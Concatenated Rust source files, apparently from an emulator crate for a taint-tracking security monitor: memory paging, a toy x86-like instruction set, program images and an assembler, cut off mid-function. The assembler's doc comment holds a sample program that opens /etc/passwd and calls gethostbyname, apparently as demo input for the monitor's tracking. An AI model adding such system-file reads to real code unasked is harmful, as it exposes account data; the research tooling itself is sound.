    pub fn mappings(&self) -> &[(u32, u32)] {
        &self.mapped
    }

    /// True when `addr` lies on a mapped page.
    pub fn is_mapped(&self, addr: u32) -> bool {
        self.pages.contains_key(&(addr / PAGE_SIZE))
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses.
    pub fn read_u8(&self, addr: u32) -> Result<u8, MemFault> {
        let page = self.pages.get(&(addr / PAGE_SIZE)).ok_or(MemFault { addr })?;
        Ok(page[(addr % PAGE_SIZE) as usize])
    }

    /// Writes one byte.
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses.
    pub fn write_u8(&mut self, addr: u32, value: u8) -> Result<(), MemFault> {
        let page = self.pages.get_mut(&(addr / PAGE_SIZE)).ok_or(MemFault { addr })?;
        page[(addr % PAGE_SIZE) as usize] = value;
        Ok(())
    }

    /// Reads a little-endian u32 (may straddle pages).
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses.
    pub fn read_u32(&self, addr: u32) -> Result<u32, MemFault> {
        let mut bytes = [0u8; 4];
        for (i, b) in bytes.iter_mut().enumerate() {
            *b = self.read_u8(addr.wrapping_add(i as u32))?;
        }
        Ok(u32::from_le_bytes(bytes))
    }

    /// Writes a little-endian u32 (may straddle pages).
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses.
    pub fn write_u32(&mut self, addr: u32, value: u32) -> Result<(), MemFault> {
        for (i, b) in value.to_le_bytes().iter().enumerate() {
            self.write_u8(addr.wrapping_add(i as u32), *b)?;
        }
        Ok(())
    }

    /// Reads `len` bytes into a vector.
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses.
    pub fn read_bytes(&self, addr: u32, len: u32) -> Result<Vec<u8>, MemFault> {
        (0..len).map(|i| self.read_u8(addr.wrapping_add(i))).collect()
    }

    /// Writes a byte slice.
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses.
    pub fn write_bytes(&mut self, addr: u32, bytes: &[u8]) -> Result<(), MemFault> {
        for (i, b) in bytes.iter().enumerate() {
            self.write_u8(addr.wrapping_add(i as u32), *b)?;
        }
        Ok(())
    }

    /// Reads a NUL-terminated string (lossy UTF-8), up to `max` bytes.
    ///
    /// # Errors
    ///
    /// Returns [`MemFault`] on unmapped addresses before the terminator.
    pub fn read_cstr(&self, addr: u32, max: u32) -> Result<String, MemFault> {
        let mut bytes = Vec::new();
        for i in 0..max {
            let b = self.read_u8(addr.wrapping_add(i))?;
            if b == 0 {
                break;
            }
            bytes.push(b);
        }
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unmapped_access_faults() {
        let mut m = Memory::new();
        assert_eq!(m.read_u8(0), Err(MemFault { addr: 0 }));
        assert_eq!(m.write_u8(0x5000, 1), Err(MemFault { addr: 0x5000 }));
    }

    #[test]
    fn mapping_rounds_to_pages() {
        let mut m = Memory::new();
        m.map(0x1100, 0x1200);
        assert!(m.is_mapped(0x1000));
        assert!(m.is_mapped(0x1fff));
        assert!(!m.is_mapped(0x2000));
    }

    #[test]
    fn u32_round_trip_across_page_boundary() {
        let mut m = Memory::new();
        m.map(0x1000, 0x3000);
        let addr = 0x1ffe; // straddles the 0x2000 boundary
        m.write_u32(addr, 0x0102_0304).unwrap();
        assert_eq!(m.read_u32(addr).unwrap(), 0x0102_0304);
        assert_eq!(m.read_u8(addr).unwrap(), 0x04, "little endian");
    }

    #[test]
    fn cstr_reads_until_nul() {
        let mut m = Memory::new();
        m.map(0x1000, 0x2000);
        m.write_bytes(0x1000, b"/bin/ls\0junk").unwrap();
        assert_eq!(m.read_cstr(0x1000, 64).unwrap(), "/bin/ls");
    }

    #[test]
    fn cstr_respects_max() {
        let mut m = Memory::new();
        m.map(0x1000, 0x2000);
        m.write_bytes(0x1000, b"abcdef").unwrap();
        assert_eq!(m.read_cstr(0x1000, 3).unwrap(), "abc");
    }
}
