//! The instruction-set architecture: registers, operands, instructions.
//!
//! A small 32-bit x86-flavoured ISA — eight general-purpose registers,
//! Intel-style two-operand instructions, `int 0x80` syscalls and `cpuid`.
//! It is deliberately *not* byte-exact x86: instructions are interpreted
//! as enum values at fixed 4-byte pseudo-encodings, which is all the
//! monitor above needs (the paper's Harrier consumes instruction-level
//! *events*, not encodings).

use std::fmt;
use std::sync::Arc;

/// General-purpose registers.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[allow(missing_docs)]
pub enum Reg {
    Eax = 0,
    Ebx = 1,
    Ecx = 2,
    Edx = 3,
    Esi = 4,
    Edi = 5,
    Ebp = 6,
    Esp = 7,
}

impl Reg {
    /// All registers in index order.
    pub const ALL: [Reg; 8] =
        [Reg::Eax, Reg::Ebx, Reg::Ecx, Reg::Edx, Reg::Esi, Reg::Edi, Reg::Ebp, Reg::Esp];

    /// Dense index (0..8) for register files and shadow state.
    pub fn index(self) -> usize {
        self as usize
    }

    /// Parses an assembler register name.
    pub fn from_name(name: &str) -> Option<Reg> {
        Some(match name {
            "eax" => Reg::Eax,
            "ebx" => Reg::Ebx,
            "ecx" => Reg::Ecx,
            "edx" => Reg::Edx,
            "esi" => Reg::Esi,
            "edi" => Reg::Edi,
            "ebp" => Reg::Ebp,
            "esp" => Reg::Esp,
            _ => return None,
        })
    }

    /// Assembler name.
    pub fn name(self) -> &'static str {
        match self {
            Reg::Eax => "eax",
            Reg::Ebx => "ebx",
            Reg::Ecx => "ecx",
            Reg::Edx => "edx",
            Reg::Esi => "esi",
            Reg::Edi => "edi",
            Reg::Ebp => "ebp",
            Reg::Esp => "esp",
        }
    }
}

impl fmt::Display for Reg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A memory reference `[base + index + disp]`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct MemRef {
    /// Optional base register.
    pub base: Option<Reg>,
    /// Optional index register (scale is always 1 in this ISA).
    pub index: Option<Reg>,
    /// Signed displacement.
    pub disp: i32,
}

impl MemRef {
    /// `[reg]`
    pub fn reg(base: Reg) -> MemRef {
        MemRef { base: Some(base), index: None, disp: 0 }
    }

    /// `[reg + disp]`
    pub fn reg_disp(base: Reg, disp: i32) -> MemRef {
        MemRef { base: Some(base), index: None, disp }
    }

    /// `[abs]`
    pub fn abs(addr: u32) -> MemRef {
        MemRef { base: None, index: None, disp: addr as i32 }
    }
}

impl fmt::Display for MemRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[")?;
        let mut wrote = false;
        if let Some(b) = self.base {
            write!(f, "{b}")?;
            wrote = true;
        }
        if let Some(i) = self.index {
            if wrote {
                write!(f, "+")?;
            }
            write!(f, "{i}")?;
            wrote = true;
        }
        if self.disp != 0 || !wrote {
            if wrote {
                if self.disp < 0 {
                    write!(f, "-{:#x}", -(i64::from(self.disp)))?;
                } else {
                    write!(f, "+{:#x}", self.disp)?;
                }
            } else {
                write!(f, "{:#x}", self.disp as u32)?;
            }
        }
        write!(f, "]")
    }
}

/// An instruction operand.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Operand {
    /// Register operand.
    Reg(Reg),
    /// Immediate (always carries the `BINARY` data source under taint
    /// tracking — immediates live in the binary image).
    Imm(u32),
    /// Memory operand.
    Mem(MemRef),
}

impl fmt::Display for Operand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Operand::Reg(r) => write!(f, "{r}"),
            Operand::Imm(v) => write!(f, "{:#x}", v),
            Operand::Mem(m) => write!(f, "{m}"),
        }
    }
}

/// Branch/conditional codes (subset of x86 condition codes).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Cond {
    E,
    Ne,
    L,
    Le,
    G,
    Ge,
    B,
    Be,
    A,
    Ae,
    S,
    Ns,
}

impl fmt::Display for Cond {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Cond::E => "e",
            Cond::Ne => "ne",
            Cond::L => "l",
            Cond::Le => "le",
            Cond::G => "g",
            Cond::Ge => "ge",
            Cond::B => "b",
            Cond::Be => "be",
            Cond::A => "a",
            Cond::Ae => "ae",
            Cond::S => "s",
            Cond::Ns => "ns",
        };
        f.write_str(s)
    }
}

/// A control-transfer target.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Target {
    /// Resolved absolute address.
    Abs(u32),
    /// Unresolved external symbol; the loader patches these at link time.
    Extern(Arc<str>),
}

impl fmt::Display for Target {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Target::Abs(a) => write!(f, "{a:#x}"),
            Target::Extern(s) => write!(f, "@{s}"),
        }
    }
}

/// Binary ALU operations sharing one execution path.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum AluOp {
    Add,
    Sub,
    And,
    Or,
    Xor,
    Imul,
    Shl,
    Shr,
}

impl fmt::Display for AluOp {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            AluOp::Add => "add",
            AluOp::Sub => "sub",
            AluOp::And => "and",
            AluOp::Or => "or",
            AluOp::Xor => "xor",
            AluOp::Imul => "imul",
            AluOp::Shl => "shl",
            AluOp::Shr => "shr",
        };
        f.write_str(s)
    }
}

/// One instruction. All instructions occupy 4 address units, so the
/// instruction at text index `i` lives at `text_base + 4*i`.
#[derive(Clone, Debug, PartialEq)]
pub enum Instr {
    /// 32-bit move.
    Mov(Operand, Operand),
    /// 8-bit move (zero-extends into registers).
    MovB(Operand, Operand),
    /// Load effective address.
    Lea(Reg, MemRef),
    /// Two-operand ALU operation, result into the first operand.
    Alu(AluOp, Operand, Operand),
    /// Compare (sets flags, discards result).
    Cmp(Operand, Operand),
    /// Bitwise-AND compare (sets flags, discards result).
    Test(Operand, Operand),
    /// Increment.
    Inc(Operand),
    /// Decrement.
    Dec(Operand),
    /// Two's-complement negate.
    Neg(Operand),
    /// Bitwise not.
    NotOp(Operand),
    /// Push a 32-bit value.
    Push(Operand),
    /// Pop a 32-bit value.
    Pop(Operand),
    /// Unconditional jump.
    Jmp(Target),
    /// Conditional jump.
    J(Cond, Target),
    /// Call (pushes the return address).
    Call(Target),
    /// Return.
    Ret,
    /// Software interrupt; `int 0x80` is the syscall gate.
    Int(u8),
    /// CPU identification — the paper's example of a `HARDWARE` source.
    Cpuid,
    /// String move: copies the byte at `[esi]` to `[edi]`, then
    /// increments both. Taint moves per byte (precision demo).
    Movsb,
    /// `loop target`: decrement `ecx`, jump when non-zero.
    Loop(Target),
    /// No operation.
    Nop,
    /// Halt the processor (process exit without syscall, error path).
    Hlt,
}

impl Instr {
    /// True when this instruction ends a basic block.
    pub fn ends_basic_block(&self) -> bool {
        matches!(
            self,
            Instr::Jmp(_)
                | Instr::J(..)
                | Instr::Call(_)
                | Instr::Ret
                | Instr::Hlt
                | Instr::Loop(_)
        )
    }

    /// Local jump/call target address, if statically known.
    pub fn static_target(&self) -> Option<u32> {
        match self {
            Instr::Jmp(Target::Abs(a))
            | Instr::J(_, Target::Abs(a))
            | Instr::Call(Target::Abs(a))
            | Instr::Loop(Target::Abs(a)) => Some(*a),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn register_names_round_trip() {
        for reg in Reg::ALL {
            assert_eq!(Reg::from_name(reg.name()), Some(reg));
        }
        assert_eq!(Reg::from_name("rax"), None);
    }

    #[test]
    fn register_indices_are_dense() {
        for (i, reg) in Reg::ALL.iter().enumerate() {
            assert_eq!(reg.index(), i);
        }
    }

    #[test]
    fn basic_block_enders() {
        assert!(Instr::Ret.ends_basic_block());
        assert!(Instr::Jmp(Target::Abs(0)).ends_basic_block());
        assert!(Instr::J(Cond::E, Target::Abs(0)).ends_basic_block());
        assert!(Instr::Call(Target::Abs(0)).ends_basic_block());
        assert!(Instr::Hlt.ends_basic_block());
        assert!(!Instr::Nop.ends_basic_block());
        assert!(!Instr::Int(0x80).ends_basic_block());
    }

    #[test]
    fn memref_display() {
        assert_eq!(MemRef::reg(Reg::Ebx).to_string(), "[ebx]");
        assert_eq!(MemRef::reg_disp(Reg::Ebp, -8).to_string(), "[ebp-0x8]");
        assert_eq!(MemRef::abs(0x1000).to_string(), "[0x1000]");
    }

    #[test]
    fn static_targets() {
        assert_eq!(Instr::Jmp(Target::Abs(8)).static_target(), Some(8));
        assert_eq!(Instr::Call(Target::Extern(Arc::from("f"))).static_target(), None);
        assert_eq!(Instr::Ret.static_target(), None);
    }
}
