//! Loadable images: the output of the assembler, the input of the loader.

use std::collections::HashMap;
use std::sync::Arc;

use crate::isa::Instr;

/// Identifier of a loaded image within one address space.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ImageId(pub u32);

/// A relocated, loadable program image — the "binary" the monitor tags
/// with the `BINARY` data source when it is mapped.
#[derive(Clone, Debug)]
pub struct Image {
    name: Arc<str>,
    text_base: u32,
    text: Vec<Instr>,
    data_base: u32,
    data: Vec<u8>,
    entry: u32,
    exports: HashMap<Arc<str>, u32>,
    /// Instruction indexes whose `Call`/`Jmp` target is an unresolved
    /// external symbol, with the symbol name (patched at load time).
    externs: Vec<(usize, Arc<str>)>,
    bb_leaders: Vec<u32>,
}

impl Image {
    /// Assembles an image from parts; used by the assembler.
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn from_parts(
        name: &str,
        text_base: u32,
        text: Vec<Instr>,
        data_base: u32,
        data: Vec<u8>,
        entry: u32,
        exports: HashMap<Arc<str>, u32>,
        externs: Vec<(usize, Arc<str>)>,
    ) -> Image {
        let bb_leaders = crate::bb::find_leaders(text_base, &text);
        Image {
            name: Arc::from(name),
            text_base,
            text,
            data_base,
            data,
            entry,
            exports,
            externs,
            bb_leaders,
        }
    }

    /// Image name (e.g. `/bin/app`, `libc.so`). This is the string that
    /// shows up in `BINARY` data-source tags.
    pub fn name(&self) -> &Arc<str> {
        &self.name
    }

    /// First text address.
    pub fn text_base(&self) -> u32 {
        self.text_base
    }

    /// One past the last text address.
    pub fn text_end(&self) -> u32 {
        self.text_base + 4 * self.text.len() as u32
    }

    /// Instructions in address order.
    pub fn text(&self) -> &[Instr] {
        &self.text
    }

    /// Mutable access for link-time patching of extern targets.
    pub(crate) fn text_mut(&mut self) -> &mut [Instr] {
        &mut self.text
    }

    /// Unresolved external references.
    pub fn externs(&self) -> &[(usize, Arc<str>)] {
        &self.externs
    }

    /// Clears extern records once patched.
    pub(crate) fn clear_externs(&mut self) {
        self.externs.clear();
    }

    /// Address of the instruction at text index `idx`.
    pub fn addr_of(&self, idx: usize) -> u32 {
        self.text_base + 4 * idx as u32
    }

    /// Instruction at `addr`, if it lies inside this image's text.
    pub fn instr_at(&self, addr: u32) -> Option<&Instr> {
        if addr < self.text_base
            || addr >= self.text_end()
            || !(addr - self.text_base).is_multiple_of(4)
        {
            return None;
        }
        self.text.get(((addr - self.text_base) / 4) as usize)
    }

    /// Base address of the initialised data section.
    pub fn data_base(&self) -> u32 {
        self.data_base
    }

    /// Initialised data bytes.
    pub fn data(&self) -> &[u8] {
        &self.data
    }

    /// One past the last data address.
    pub fn data_end(&self) -> u32 {
        self.data_base + self.data.len() as u32
    }

    /// Entry point address.
    pub fn entry(&self) -> u32 {
        self.entry
    }

    /// Exported (`.global`) symbols.
    pub fn exports(&self) -> &HashMap<Arc<str>, u32> {
        &self.exports
    }

    /// Addresses that start a basic block, ascending.
    pub fn bb_leaders(&self) -> &[u32] {
        &self.bb_leaders
    }

    /// The basic-block leader governing `addr` (the greatest leader
    /// `<= addr`), if `addr` is inside this image's text.
    pub fn bb_of(&self, addr: u32) -> Option<u32> {
        if addr < self.text_base || addr >= self.text_end() {
            return None;
        }
        match self.bb_leaders.binary_search(&addr) {
            Ok(i) => Some(self.bb_leaders[i]),
            Err(0) => None,
            Err(i) => Some(self.bb_leaders[i - 1]),
        }
    }

    /// True when `addr` is inside this image's text section.
    pub fn contains_text(&self, addr: u32) -> bool {
        addr >= self.text_base && addr < self.text_end()
    }
}
