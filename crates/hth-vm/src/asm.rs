//! Two-pass text assembler for the HTH ISA.
//!
//! Intel-flavoured syntax, one instruction or directive per line:
//!
//! ```text
//! .equ SYS_open, 5
//! .global _start
//! .extern gethostbyname
//! .text
//! _start:
//!     mov  eax, SYS_open
//!     mov  ebx, path          ; label value = address
//!     int  0x80
//!     call gethostbyname      ; resolved by the loader at link time
//!     hlt
//! .data
//! path: .asciz "/etc/passwd"
//! buf:  .space 64
//! argv: .long path, 0
//! ```
//!
//! Labels in `.text` address instructions (4 address units each); labels
//! in `.data` address bytes. `.equ` defines assembly-time constants.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

use crate::image::Image;
use crate::isa::{AluOp, Cond, Instr, MemRef, Operand, Reg, Target};

/// Assembly error with source line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AsmError {
    /// 1-based source line number.
    pub line: usize,
    /// Description of the problem.
    pub message: String,
}

impl fmt::Display for AsmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "assembly error on line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for AsmError {}

/// Section being assembled into.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Section {
    Text,
    Data,
}

/// A symbol's location before relocation.
#[derive(Clone, Copy, Debug)]
enum SymLoc {
    /// Instruction index in text.
    Text(usize),
    /// Byte offset in data.
    Data(u32),
}

/// Assembles `source` into an [`Image`] named `name`, with the text
/// section based at `text_base`. The data section is placed on the next
/// page boundary after the text.
///
/// # Errors
///
/// Returns [`AsmError`] with the offending line on any syntax problem,
/// unknown mnemonic, or undefined symbol.
pub fn assemble(name: &str, source: &str, text_base: u32) -> Result<Image, AsmError> {
    assemble_with(name, source, text_base, &[])
}

/// Like [`assemble`], with `predefined` constants pre-seeded as if the
/// source began with one `.equ` per pair. The kernel uses this to hand
/// every program the generated syscall ABI (`SYS_*`, `O_*`, `SC_*`,
/// `SIG*`) without boilerplate. A source-level `.equ` with the same
/// name overrides the predefined value.
///
/// # Errors
///
/// Same as [`assemble`].
pub fn assemble_with(
    name: &str,
    source: &str,
    text_base: u32,
    predefined: &[(&str, u32)],
) -> Result<Image, AsmError> {
    let mut asm = Assembler::new(name, text_base);
    for &(sym, val) in predefined {
        asm.equs.insert(sym.to_string(), val);
    }
    asm.pass1(source)?;
    asm.pass2(source)?;
    Ok(asm.finish())
}

struct Assembler {
    name: String,
    text_base: u32,
    data_base: u32,
    section: Section,
    text_count: usize,
    data_size: u32,
    symbols: HashMap<String, SymLoc>,
    equs: HashMap<String, u32>,
    globals: Vec<String>,
    externs: Vec<String>,
    text: Vec<Instr>,
    data: Vec<u8>,
    extern_fixups: Vec<(usize, Arc<str>)>,
}

/// Strips comments (`;` or `#`) and surrounding whitespace.
fn clean(line: &str) -> &str {
    let mut end = line.len();
    let mut in_str = false;
    for (i, c) in line.char_indices() {
        match c {
            '"' => in_str = !in_str,
            ';' | '#' if !in_str => {
                end = i;
                break;
            }
            _ => {}
        }
    }
    line[..end].trim()
}

impl Assembler {
    fn new(name: &str, text_base: u32) -> Assembler {
        Assembler {
            name: name.to_string(),
            text_base,
            data_base: 0,
            section: Section::Text,
            text_count: 0,
            data_size: 0,
            symbols: HashMap::new(),
            equs: HashMap::new(),
            globals: Vec::new(),
            externs: Vec::new(),
            text: Vec::new(),
            data: Vec::new(),
            extern_fixups: Vec::new(),
        }
    }

    fn err(line: usize, message: impl Into<String>) -> AsmError {
        AsmError { line, message: message.into() }
    }

    // ---- pass 1: sizes and symbols -------------------------------------

    fn pass1(&mut self, source: &str) -> Result<(), AsmError> {
        self.section = Section::Text;
        for (lineno, raw) in source.lines().enumerate() {
            let lineno = lineno + 1;
            let mut line = clean(raw);
            if line.is_empty() {
                continue;
            }
            // Leading labels (possibly several).
            while let Some(colon) = find_label_colon(line) {
                let label = line[..colon].trim();
                if !is_ident(label) {
                    return Err(Self::err(lineno, format!("bad label `{label}`")));
                }
                let loc = match self.section {
                    Section::Text => SymLoc::Text(self.text_count),
                    Section::Data => SymLoc::Data(self.data_size),
                };
                if self.symbols.insert(label.to_string(), loc).is_some() {
                    return Err(Self::err(lineno, format!("duplicate label `{label}`")));
                }
                line = line[colon + 1..].trim();
            }
            if line.is_empty() {
                continue;
            }
            if let Some(rest) = line.strip_prefix('.') {
                self.directive_pass1(lineno, rest)?;
            } else {
                if self.section != Section::Text {
                    return Err(Self::err(lineno, "instruction outside .text"));
                }
                self.text_count += 1;
            }
        }
        // Data goes on the page after the text.
        let text_end = self.text_base + 4 * self.text_count as u32;
        self.data_base = (text_end + 0xfff) & !0xfff;
        Ok(())
    }

    fn directive_pass1(&mut self, lineno: usize, rest: &str) -> Result<(), AsmError> {
        let (word, args) = split_word(rest);
        match word {
            "text" => self.section = Section::Text,
            "data" => self.section = Section::Data,
            "section" => {
                let section = args.trim();
                self.section = match section.trim_start_matches('.') {
                    "text" => Section::Text,
                    "data" => Section::Data,
                    other => return Err(Self::err(lineno, format!("unknown section `{other}`"))),
                };
            }
            "global" | "globl" => self.globals.push(args.trim().to_string()),
            "extern" => self.externs.push(args.trim().to_string()),
            "equ" => {
                let (name, value) = args
                    .split_once(',')
                    .ok_or_else(|| Self::err(lineno, ".equ needs `name, value`"))?;
                let value = parse_number(value.trim())
                    .ok_or_else(|| Self::err(lineno, format!("bad .equ value `{value}`")))?;
                self.equs.insert(name.trim().to_string(), value);
            }
            "asciz" | "ascii" | "byte" | "word" | "long" | "space" | "align" => {
                if self.section != Section::Data {
                    return Err(Self::err(lineno, format!(".{word} outside .data")));
                }
                self.data_size += self.data_directive_size(lineno, word, args)?;
            }
            other => return Err(Self::err(lineno, format!("unknown directive `.{other}`"))),
        }
        Ok(())
    }

    /// Size in bytes a data directive will occupy (pass 1).
    fn data_directive_size(&self, lineno: usize, word: &str, args: &str) -> Result<u32, AsmError> {
        Ok(match word {
            "asciz" | "ascii" => {
                let s = parse_string(args.trim())
                    .ok_or_else(|| Self::err(lineno, format!("bad string `{args}`")))?;
                s.len() as u32 + u32::from(word == "asciz")
            }
            "byte" => split_args(args).len() as u32,
            "word" => 2 * split_args(args).len() as u32,
            "long" => 4 * split_args(args).len() as u32,
            "space" => parse_number(args.trim())
                .ok_or_else(|| Self::err(lineno, format!("bad .space `{args}`")))?,
            "align" => {
                let n = parse_number(args.trim())
                    .ok_or_else(|| Self::err(lineno, format!("bad .align `{args}`")))?;
                if n == 0 {
                    return Err(Self::err(lineno, ".align 0 is meaningless"));
                }
                (n - self.data_size % n) % n
            }
            _ => unreachable!("caller filters directives"),
        })
    }

    // ---- pass 2: emission ------------------------------------------------

    fn pass2(&mut self, source: &str) -> Result<(), AsmError> {
        self.section = Section::Text;
        for (lineno, raw) in source.lines().enumerate() {
            let lineno = lineno + 1;
            let mut line = clean(raw);
            while let Some(colon) = find_label_colon(line) {
                line = line[colon + 1..].trim();
            }
            if line.is_empty() {
                continue;
            }
            if let Some(rest) = line.strip_prefix('.') {
                self.directive_pass2(lineno, rest)?;
            } else {
                let instr = self.instruction(lineno, line)?;
                self.text.push(instr);
            }
        }
        Ok(())
    }

    fn directive_pass2(&mut self, lineno: usize, rest: &str) -> Result<(), AsmError> {
        let (word, args) = split_word(rest);
        match word {
            "text" => self.section = Section::Text,
            "data" => self.section = Section::Data,
            "section" => {
                self.section = match args.trim().trim_start_matches('.') {
                    "text" => Section::Text,
                    _ => Section::Data,
                };
            }
            "global" | "globl" | "extern" | "equ" => {}
            "asciz" | "ascii" => {
                let s = parse_string(args.trim())
                    .ok_or_else(|| Self::err(lineno, format!("bad string `{args}`")))?;
                self.data.extend_from_slice(s.as_bytes());
                if word == "asciz" {
                    self.data.push(0);
                }
            }
            "byte" => {
                for part in split_args(args) {
                    let v = self
                        .resolve_value(&part)
                        .ok_or_else(|| Self::err(lineno, format!("bad byte `{part}`")))?;
                    self.data.push(v as u8);
                }
            }
            "word" => {
                for part in split_args(args) {
                    let v = self
                        .resolve_value(&part)
                        .ok_or_else(|| Self::err(lineno, format!("bad word `{part}`")))?;
                    self.data.extend_from_slice(&(v as u16).to_le_bytes());
                }
            }
            "long" => {
                for part in split_args(args) {
                    let v = self
                        .resolve_value(&part)
                        .ok_or_else(|| Self::err(lineno, format!("bad long `{part}`")))?;
                    self.data.extend_from_slice(&v.to_le_bytes());
                }
            }
            "space" => {
                let n = parse_number(args.trim())
                    .ok_or_else(|| Self::err(lineno, format!("bad .space `{args}`")))?;
                self.data.extend(std::iter::repeat_n(0, n as usize));
            }
            "align" => {
                let n = parse_number(args.trim())
                    .ok_or_else(|| Self::err(lineno, format!("bad .align `{args}`")))?;
                while !(self.data.len() as u32).is_multiple_of(n) {
                    self.data.push(0);
                }
            }
            other => return Err(Self::err(lineno, format!("unknown directive `.{other}`"))),
        }
        Ok(())
    }

    /// Value of a symbol after relocation.
    fn symbol_addr(&self, name: &str) -> Option<u32> {
        match self.symbols.get(name)? {
            SymLoc::Text(idx) => Some(self.text_base + 4 * *idx as u32),
            SymLoc::Data(off) => Some(self.data_base + off),
        }
    }

    /// Resolves a constant expression: number, char, `.equ` constant or
    /// label address.
    fn resolve_value(&self, token: &str) -> Option<u32> {
        let token = token.trim().strip_prefix("offset ").unwrap_or(token.trim()).trim();
        parse_number(token)
            .or_else(|| self.equs.get(token).copied())
            .or_else(|| self.symbol_addr(token))
    }

    fn operand(&self, lineno: usize, token: &str) -> Result<Operand, AsmError> {
        let token = token.trim();
        if let Some(reg) = Reg::from_name(token) {
            return Ok(Operand::Reg(reg));
        }
        if token.starts_with('[') {
            return Ok(Operand::Mem(self.memref(lineno, token)?));
        }
        self.resolve_value(token)
            .map(Operand::Imm)
            .ok_or_else(|| Self::err(lineno, format!("bad operand `{token}`")))
    }

    fn memref(&self, lineno: usize, token: &str) -> Result<MemRef, AsmError> {
        let inner = token
            .strip_prefix('[')
            .and_then(|s| s.strip_suffix(']'))
            .ok_or_else(|| Self::err(lineno, format!("bad memory operand `{token}`")))?;
        let mut base = None;
        let mut index = None;
        let mut disp: i64 = 0;
        for (sign, part) in split_signed(inner) {
            let part = part.trim();
            if let Some(reg) = Reg::from_name(part) {
                if sign < 0 {
                    return Err(Self::err(lineno, "cannot subtract a register"));
                }
                if base.is_none() {
                    base = Some(reg);
                } else if index.is_none() {
                    index = Some(reg);
                } else {
                    return Err(Self::err(lineno, "too many registers in memory operand"));
                }
            } else if let Some(v) = self.resolve_value(part) {
                disp += i64::from(sign) * i64::from(v as i32);
            } else {
                return Err(Self::err(lineno, format!("bad memory term `{part}`")));
            }
        }
        Ok(MemRef { base, index, disp: disp as i32 })
    }

    fn target(&mut self, lineno: usize, token: &str) -> Result<Target, AsmError> {
        let token = token.trim();
        if let Some(addr) = self.resolve_value(token) {
            return Ok(Target::Abs(addr));
        }
        if self.externs.iter().any(|e| e == token) {
            let sym: Arc<str> = Arc::from(token);
            self.extern_fixups.push((self.text.len(), sym.clone()));
            return Ok(Target::Extern(sym));
        }
        Err(Self::err(lineno, format!("undefined target `{token}` (missing .extern?)")))
    }

    fn instruction(&mut self, lineno: usize, line: &str) -> Result<Instr, AsmError> {
        let (mnemonic, rest) = split_word(line);
        let args = split_args(rest);
        let nargs = args.len();
        let need = |n: usize| -> Result<(), AsmError> {
            if nargs == n {
                Ok(())
            } else {
                Err(Self::err(lineno, format!("`{mnemonic}` takes {n} operand(s), got {nargs}")))
            }
        };
        let instr = match mnemonic {
            "mov" => {
                need(2)?;
                Instr::Mov(self.operand(lineno, &args[0])?, self.operand(lineno, &args[1])?)
            }
            "movb" => {
                need(2)?;
                Instr::MovB(self.operand(lineno, &args[0])?, self.operand(lineno, &args[1])?)
            }
            "lea" => {
                need(2)?;
                let Operand::Reg(reg) = self.operand(lineno, &args[0])? else {
                    return Err(Self::err(lineno, "lea destination must be a register"));
                };
                Instr::Lea(reg, self.memref(lineno, args[1].trim())?)
            }
            "add" | "sub" | "and" | "or" | "xor" | "imul" | "shl" | "shr" => {
                need(2)?;
                let op = match mnemonic {
                    "add" => AluOp::Add,
                    "sub" => AluOp::Sub,
                    "and" => AluOp::And,
                    "or" => AluOp::Or,
                    "xor" => AluOp::Xor,
                    "imul" => AluOp::Imul,
                    "shl" => AluOp::Shl,
                    _ => AluOp::Shr,
                };
                Instr::Alu(op, self.operand(lineno, &args[0])?, self.operand(lineno, &args[1])?)
            }
            "cmp" => {
                need(2)?;
                Instr::Cmp(self.operand(lineno, &args[0])?, self.operand(lineno, &args[1])?)
            }
            "test" => {
                need(2)?;
                Instr::Test(self.operand(lineno, &args[0])?, self.operand(lineno, &args[1])?)
            }
            "inc" => {
                need(1)?;
                Instr::Inc(self.operand(lineno, &args[0])?)
            }
            "dec" => {
                need(1)?;
                Instr::Dec(self.operand(lineno, &args[0])?)
            }
            "neg" => {
                need(1)?;
                Instr::Neg(self.operand(lineno, &args[0])?)
            }
            "not" => {
                need(1)?;
                Instr::NotOp(self.operand(lineno, &args[0])?)
            }
            "push" => {
                need(1)?;
                Instr::Push(self.operand(lineno, &args[0])?)
            }
            "pop" => {
                need(1)?;
                Instr::Pop(self.operand(lineno, &args[0])?)
            }
            "jmp" => {
                need(1)?;
                Instr::Jmp(self.target(lineno, &args[0])?)
            }
            "call" => {
                need(1)?;
                Instr::Call(self.target(lineno, &args[0])?)
            }
            "ret" => {
                need(0)?;
                Instr::Ret
            }
            "int" => {
                need(1)?;
                let v = self
                    .resolve_value(&args[0])
